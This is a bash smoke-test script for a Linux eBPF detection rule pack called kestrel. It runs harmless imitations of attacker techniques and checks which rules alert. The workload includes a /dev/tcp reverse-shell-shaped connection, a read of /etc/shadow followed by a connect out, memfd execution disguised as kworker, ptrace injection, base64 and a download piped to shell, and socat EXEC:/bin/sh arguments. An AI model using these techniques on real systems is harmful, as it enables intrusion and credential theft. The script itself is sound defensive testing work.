#!/usr/bin/env bash
# Live smoke test of the pack: runs `kestrel run` with rules/linux for a few seconds while a
# harmless scripted workload (files only under a temp dir and /dev/shm/ktl-*, connects to the
# TEST-NET address 192.0.2.1 that time out, a read of /etc/shadow, a ptrace attach to a `sleep`)
# imitates the attacks, then lists the rules that alerted and the expected ones that did not.
# Needs root and a kestrel built with the live eBPF source.
# Usage: sudo rules/linux/live_smoke.sh [path/to/kestrel]
set -uo pipefail
KESTREL=${1:-$(dirname "$0")/../../build/kestrel}
PACK=$(cd "$(dirname "$0")" && pwd)
OUT=$(mktemp -d /tmp/kestrel-smoke.XXXXXX)
W=$OUT/w
# The real interpreter binary (not a pyenv/asdf shim script): copies of it are run as "payloads".
PY=$(python3 -c 'import os, sys; print(os.path.realpath(sys.executable))')
EXPECTED="linux-argv0-masquerading linux-base64-payload-piped-to-shell linux-bind-shell-listener
linux-credential-file-read-then-connect linux-crypto-miner-execution linux-dev-shm-download-chmod-exec
linux-discovery-command-burst linux-download-then-execute linux-exec-from-dev-shm
linux-exec-from-tmp linux-executed-binary-deletes-itself linux-file-created-then-setuid-bit
linux-hidden-file-executed linux-memfd-create-then-exec linux-ptrace-attach-non-debugger
linux-renamed-tunneling-tool linux-reverse-shell-dev-tcp-args linux-reverse-shell-shell-connects-out
linux-setuid-bit-set linux-shadow-file-read-unusual-process linux-shell-history-tampering-args
linux-suid-binary-enumeration linux-system-process-name-from-unusual-path linux-timestomping-touch
linux-writable-dir-binary-connects-out"

"$KESTREL" run -r "$PACK" -o "$OUT/alerts.ndjson" --record "$OUT/events.klog" --duration 30 2>"$OUT/err" &
KPID=$!
for _ in $(seq 100); do grep -q watching "$OUT/err" 2>/dev/null && break; sleep 0.3; done
grep -q watching "$OUT/err" || { cat "$OUT/err"; exit 77; }
grep "^run:" "$OUT/err"

workload() {
mkdir -p "$W"; cd "$W" || exit 1
# 1 download then execute (relative)
curl -s -o $W/dl file:///bin/true; chmod +x dl; ./dl
cp $PY $W/beacon; $W/beacon -c 'import socket; s=socket.socket(); s.settimeout(1)
try: s.connect(("192.0.2.1", 443))
except Exception: pass'
# 2 /dev/shm 3-stage
cp /bin/true /dev/shm/ktl-x; chmod 755 /dev/shm/ktl-x; /dev/shm/ktl-x; rm -f /dev/shm/ktl-x
# 3 setuid copy
cp /bin/true $W/.b; chmod u+s $W/.b; $W/.b
# 4 memfd exec, both ways
$PY -c 'import os; fd=os.memfd_create("pay"); os.write(fd, open("/bin/true","rb").read()); os.execv(f"/proc/self/fd/{fd}", ["[kworker/0:1]"])'
$PY -c 'import os; fd=os.memfd_create("pay2", 0); os.write(fd, open("/bin/true","rb").read()); os.execve(fd, ["x"], {})'
# 5 ptrace attach + poke
sleep 5 & SPID=$!
$PY - $SPID <<'PY'
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
print("attach", libc.ptrace(16, pid, None, None))
os.waitpid(pid, 0)
print("peek", libc.ptrace(2, pid, ctypes.c_void_p(0x400000), None))
print("detach", libc.ptrace(17, pid, None, None))
PY
kill $SPID 2>/dev/null
# 6 reverse-shell shape: bash connecting out (TEST-NET, times out)
timeout 2 bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444' 2>/dev/null
# 7 self delete
cp $PY $W/sd; $W/sd -c 'import os; os.unlink("'"$W"'/sd")'
# 8 discovery burst
bash -c 'id >/dev/null; uname -a >/dev/null; ps aux >/dev/null; ss -t >/dev/null; w >/dev/null; true'
# 9 base64 to shell
sh -c 'echo ZWNobyBoaSA+L2Rldi9udWxs | base64 -d | sh'
# 10 timestomp / history / suid find
touch $W/t; touch -r /bin/ls $W/t
bash -c 'unset HISTFILE; true'
find $W -perm -4000 >/dev/null
# 11 credential read then connect
timeout 3 $PY -c 'import socket; open("/etc/shadow").read(); s=socket.socket(); s.settimeout(1)
try: s.connect(("192.0.2.1", 8443))
except Exception: pass'
# 12 bind shell shape
$PY -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); s.listen(1); s.close()'
# 13 renamed socat / miner args / kworker name
cp /bin/true $W/update; $W/update TCP:192.0.2.1:1 EXEC:/bin/sh; $W/update --donate-level 1 -o stratum+tcp://x:1
cp /bin/true $W/kworker; $W/kworker
# 14 pipe download to shell
(curl -s file:///dev/null | sh)
}
workload >/dev/null 2>&1
echo "alerts: $OUT/alerts.ndjson"
wait "$KPID"
python3 - "$OUT/alerts.ndjson" "$EXPECTED" <<'PY'
import collections, json, sys
got = collections.Counter(json.loads(l)["rule"]["id"] for l in open(sys.argv[1]) if l.strip())
for rule, n in sorted(got.items()):
    print(f"{n:4} {rule}")
missing = sorted(set(sys.argv[2].split()) - set(got))
# the two pipeline rules share one expectation: which of curl and sh execs first is a race
if got["linux-download-piped-to-shell"] + got["linux-download-piped-to-shell-shell-first"] != 1:
    print("expected exactly one of linux-download-piped-to-shell(-shell-first)")
    sys.exit(1)
print("expected but silent:", " ".join(missing) if missing else "none")
sys.exit(1 if missing else 0)
PY
